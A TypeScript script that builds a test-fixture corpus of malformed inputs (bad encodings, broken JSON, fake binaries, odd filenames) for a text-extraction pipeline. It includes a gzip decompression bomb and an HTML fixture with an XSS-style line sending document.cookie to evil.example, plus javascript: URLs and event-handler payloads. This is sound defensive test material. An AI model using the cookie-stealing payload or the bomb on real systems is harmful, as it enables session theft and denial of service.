/**
 * Writes the committed part of the bad-input corpus (test/fixtures/bad-input/) byte for byte,
 * so every odd encoding and binary file can be reproduced and reviewed from source:
 *   npx tsx scripts/make-bad-input.ts
 * Files too large to commit (huge pages, deep nesting, one enormous line) are generated at test
 * time by test/support/bad-input.ts. The expectations live in test/fixtures/bad-input/expected.json.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';

const dir = join(import.meta.dirname, '..', 'test', 'fixtures', 'bad-input');

/** Deterministic pseudo-random bytes (xorshift32), so "binary junk" is the same on every run. */
function junk(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/** A plain article page; `head` lets a fixture add or omit a charset declaration. */
function page(title: string, paragraphs: readonly string[], head = '<meta charset="utf-8">'): string {
  const body = paragraphs.map((p) => `      <p>${p}</p>`).join('\n');
  return `<!doctype html>
<html>
  <head>
    ${head}
    <title>${title}</title>
  </head>
  <body>
    <nav><a href="/">Home</a> <a href="/news">News</a></nav>
    <article>
      <h1>${title}</h1>
${body}
    </article>
    <footer>Copyright The Example Courier</footer>
  </body>
</html>
`;
}

const files: Record<string, string | Uint8Array> = {};

// --- empty and near-empty ------------------------------------------------------------------
files['empty.html'] = '';
files['empty.jsonl'] = '';
files['whitespace-only.txt'] = '   \n\n\t  \r\n   \n';
files['tiny.txt'] = 'Hello world.\n';
files['no-content.html'] = `<!doctype html><html><head><meta charset="utf-8"><title>Menu</title></head>
<body><nav><ul><li><a href="/a">Home</a></li><li><a href="/b">Sport</a></li><li><a href="/c">Weather</a></li></ul></nav>
<footer>Cookies | Privacy | Contact</footer></body></html>
`;

// --- binary and unknown formats -------------------------------------------------------------
files['binary-junk.bin'] = junk(4096, 0x5eed);
files['binary-junk-named.html'] = junk(2048, 0xbad);
files['report.pdf'] = `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj
4 0 obj << /Length 58 >> stream
BT /F1 24 Tf 72 720 Td (Quarterly report: revenue rose) Tj ET
endstream endobj
trailer << /Root 1 0 R >>
%%EOF
`;
files['pdf-named.html'] = files['report.pdf'];
files['photo.png'] = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00,
  0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00,
  0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d,
  0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
]);
// A zip holding one stored (uncompressed) file "a.txt" = "hi".
files['archive.zip'] = Uint8Array.from([
  0x50, 0x4b, 0x03, 0x04, 0x0a, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x21, 0x00, 0xac, 0x2a, 0x93, 0xd8,
  0x02, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00, 0x05, 0x00, 0x00, 0x00, 0x61, 0x2e, 0x74, 0x78, 0x74, 0x68,
  0x69, 0x50, 0x4b, 0x05, 0x06, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
]);
files['feed.xml'] = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Example Courier</title><link>https://example.com/</link>
<item><title>Council approves new bus lanes</title><link>https://example.com/a</link><description>The council voted on Tuesday.</description></item>
<item><title>Library reopens after repairs</title><link>https://example.com/b</link><description>Doors open at nine.</description></item>
</channel></rss>
`;

// --- gzip: a bomb, a truncated stream, and a .gz name on plain text --------------------------
// 64 MiB of one repeated paragraph compresses to ~64 KiB: far past the 20 MiB decompressed cap.
{
  const head = '<!doctype html><html><head><title>Bomb</title></head><body><p>';
  const filler = Buffer.alloc(64 * 1024 * 1024, 'boom ');
  files['gzip-bomb.html.gz'] = gzipSync(Buffer.concat([Buffer.from(head), filler]), { level: 9 });
}
{
  const whole = gzipSync(
    page('Truncated downloads leave half a page', [
      'This page was cut off in the middle of its gzip stream by a scraper that timed out.',
    ]),
  );
  files['truncated.html.gz'] = whole.subarray(0, Math.floor(whole.length / 2));
}
files['not-really-gzip.html.gz'] = page('Harbour ferry timetable changes after storm damage', [
  'The harbour authority said on Monday that the morning ferry to the islands will leave forty minutes later until the damaged pier is repaired.',
  'Engineers expect the work to take three weeks, weather permitting, and the evening crossings keep their usual times.',
]);

// --- JSON and JSONL -------------------------------------------------------------------------
files['invalid.json'] =
  '{"title": "Broken record", "text": "This record was cut off before its closing quote and brace\n';
files['array-not-object.json'] = JSON.stringify([
  {
    title: 'An array where one record belongs',
    text: 'A .json upload carries one record, but this one wraps it in an array, which is a different shape.',
  },
]);
files['wrong-types.json'] = JSON.stringify({ title: 42, text: ['not', 'a', 'string'], publishedAt: true });
files['lone-surrogates.json'] =
  `{"url": "https://example.com/science/comet", "title": "Amateur astronomers track a bright comet", "text": "Amateur astronomers across the northern hemisphere have been photographing a comet that brightened unexpectedly this week.\\u0000 Observers say it is visible with binoculars after sunset, low in the western sky.\\n\\nThe comet's tail stretched \\ud800 across several degrees on Thursday night, according to the regional astronomy club."}
`;
files['bad-lines.jsonl'] = [
  JSON.stringify({
    url: 'https://example.com/business/bakery-expands',
    title: 'Family bakery opens its third shop',
    text: 'A family bakery that started in a garage ten years ago opened its third shop on the high street on Saturday, hiring twelve people from the town. The owners said demand for sourdough had doubled since the pandemic.',
  }),
  '{"title": "Broken line", "text": "no closing brace"',
  JSON.stringify({
    url: 'https://example.com/sport/rowing-club',
    title: 'Rowing club wins regional regatta',
    text: 'The town rowing club won four of six races at the regional regatta on Sunday, its best result in two decades. The coach credited a winter of early-morning training on the river for the crews’ strong finish.',
  }),
  '[1, 2, 3]',
  '',
  '"just a string"',
  JSON.stringify({ title: 'A record with a title and nothing else' }),
  JSON.stringify({
    url: 'https://example.com/culture/museum-night',
    title: 'Museum stays open late for summer nights',
    html: '<p>The city museum will stay open until midnight every Friday in July and August, with guided tours of the new textile gallery.</p><p>Entry after six is free for residents, the director said, to bring in people who work during the day.</p>',
  }),
  JSON.stringify({ title: 'Tiny', text: 'Too short.' }),
].join('\n');
files['crlf-bom.jsonl'] = `\ufeff${[
  JSON.stringify({
    url: 'https://example.com/local/allotments',
    title: 'Allotment waiting list passes five hundred',
    text: 'The waiting list for a council allotment has passed five hundred names for the first time, and some applicants have now waited more than six years. The council is looking at splitting large plots in half.',
  }),
  JSON.stringify({
    url: 'https://example.com/local/bridge',
    title: 'Footbridge closes for repainting',
    text: 'The footbridge over the railway will close for six weeks from Monday while it is stripped and repainted. Pedestrians are asked to use the level crossing by the station, where extra staff will be on duty at peak times.',
  }),
].join('\r\n')}\r\n\r\n\r\n`;

// --- charsets ---------------------------------------------------------------------------------
const utf16Page = page(
  'Café owners in Lyon fight rising rents',
  [
    'Café owners in the old town of Lyon say rents have risen by a third in two years, and several well-known bistros have closed since the spring.',
    'The city council has promised a review of commercial leases, but owners want a cap on increases before the next renewal season.',
  ],
  '<meta charset="utf-16">',
);
files['utf16le-bom.html'] = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(utf16Page, 'utf-16le')]);
files['utf16be-bom.txt'] = Buffer.concat([
  Buffer.from([0xfe, 0xff]),
  iconv.encode(
    `Weather\n\nSnow closes mountain passes in the Alps\n\nHeavy snow closed three mountain passes in the Swiss and French Alps overnight, and drivers were told to fit chains or stay away until the ploughs have cleared the roads.\n\nAvalanche warnings were raised to level four in several valleys, and some ski lifts will stay shut until Wednesday.\n`,
    'utf-16be',
  ),
]);
files['gbk-undeclared.html'] = iconv.encode(
  page(
    '北京地铁新线路开通运营',
    [
      '北京地铁新线路今天正式开通运营，全长二十五公里，共设十八座车站，连接城市东部和北部的多个居民区。',
      '市交通委员会表示，新线路开通后，沿线居民的通勤时间平均将缩短二十分钟，早晚高峰期间列车间隔为三分钟。',
      '不少乘客一早就来到车站体验新线路，有市民说，以前上班需要换乘两次，现在可以直达公司附近。',
    ],
    '',
  ),
  'gbk',
);
files['shift-jis-undeclared.html'] = iconv.encode(
  page(
    '東京で桜の開花を発表',
    [
      '気象庁は今日、東京都心で桜が開花したと発表しました。平年より五日早く、去年と比べると二日早い開花となりました。',
      '靖国神社にある標本木で五輪以上の花が咲いているのを気象庁の職員が確認しました。満開は来週の半ばになる見込みです。',
      '上野公園では早くも多くの花見客が訪れ、咲き始めた桜を写真に収める人の姿が見られました。',
    ],
    '',
  ),
  'shift_jis',
);
files['declared-utf8-really-1252.html'] = iconv.encode(
  page('“Café society” returns to the boulevard', [
    'After two quiet winters the terraces along the boulevard are full again, and owners say the “café society” of the 1990s is back — at least on sunny afternoons.',
    'Rents remain high, but the city’s decision to widen the pavements has given each café room for a dozen more tables, the traders’ association said.',
  ]),
  'windows-1252',
);
files['windows-1252-undeclared.txt'] = iconv.encode(
  `Food & Drink\n\nCrème brûlée tops the city’s dessert poll\n\nCrème brûlée has topped the city’s annual dessert poll for the third year running, ahead of tarte tatin and a newcomer, the pistachio éclair.\n\nMore than four thousand readers voted, and the café that won “best dessert” said it now sells two hundred a day.\n`,
  'windows-1252',
);

// --- odd key names (the S3 event URL-encodes them; space arrives as "+") --------------------
files['key with spaces.html'] = page('Night buses return to the western suburbs', [
  'Night buses will run again to the western suburbs from next month after a two-year gap, the transport authority announced on Wednesday.',
  'Three routes will leave the city centre every thirty minutes between midnight and five in the morning, seven days a week.',
]);
files['q+a & answers.html'] = page('Readers ask about the new recycling rules', [
  'Since the new recycling rules began this month, readers have sent us hundreds of questions about which bin takes what.',
  'Glass now goes in the green box, cartons go with plastics, and food waste is collected every week rather than every fortnight.',
]);
files['clé-ñandú-日本語.html'] = page('Zoo welcomes a pair of rheas from Argentina', [
  'The city zoo has welcomed a pair of greater rheas, large flightless birds from the grasslands of Argentina, in a swap with a zoo in Córdoba.',
  'Keepers say the birds, named Pampa and Ñandú, will be on view in the South America enclosure from the end of the month.',
]);

// --- markup that must never run or render --------------------------------------------------
files['script-injection.html'] = `<!doctype html>
<html><head><meta charset="utf-8"><title>Council publishes school budget</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')">
<article>
<h1>Council publishes school budget</h1>
<p>The council published its school budget for next year on Thursday, with an extra two million for building repairs and new science labs.<img src="x" onerror="alert('img')"></p>
<p>Head teachers welcomed the money but said staffing costs were still rising faster than the grant. <a href="javascript:alert('link')">Read the full budget</a>.</p>
<script>document.write('<iframe src=https://evil.example></iframe>')</script>
<iframe src="https://evil.example/frame"></iframe>
</article></body></html>
`;
files['html-in-txt.txt'] = page('Wrong extension: this text file is a web page', [
  'A scraper saved this page with a .txt extension, but its content is plain HTML and should be read as a web page rather than as scraped text.',
  'Format detection looks at the bytes, not only the name, so the title and paragraphs should come out clean without any angle brackets.',
]);

mkdirSync(dir, { recursive: true });
for (const [name, content] of Object.entries(files)) {
  writeFileSync(join(dir, name), content);
}
console.log(`wrote ${Object.keys(files).length} files to ${dir}`);
